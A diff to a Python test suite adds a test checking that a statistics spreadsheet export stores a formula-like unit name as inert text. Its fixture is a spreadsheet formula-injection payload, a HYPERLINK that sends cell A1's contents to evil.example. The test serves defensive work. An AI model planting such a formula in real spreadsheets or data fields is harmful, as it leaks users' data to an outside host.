@@ -385,3 +385,13 @@ def test_a_federation_no_longer_active_is_listed_while_it_has_figures(registry, 
 
     assert rows[tree.province_b.pk] == registry_of(tree.province_b, Y)
     assert tree.province_b.pk not in {row.unit.pk for row in figures_by_province(Y - 2)}
+
+
+def test_statistics_xlsx_writes_a_hostile_unit_name_as_text(client, registry, tree):
+    hostile = '=HYPERLINK("http://evil.example/?x="&A1,"Xem")'
+    Unit.objects.filter(pk=tree.province_a.pk).update(name=hostile)
+    response = client.get(registry["page"].url + "xlsx/")
+    sheet = _workbook(response)["Theo tỉnh"]
+    names = {row[0].value: row[0].data_type for row in sheet.iter_rows(min_row=2)}
+    assert names["'" + hostile] == "s"
+    assert hostile not in names
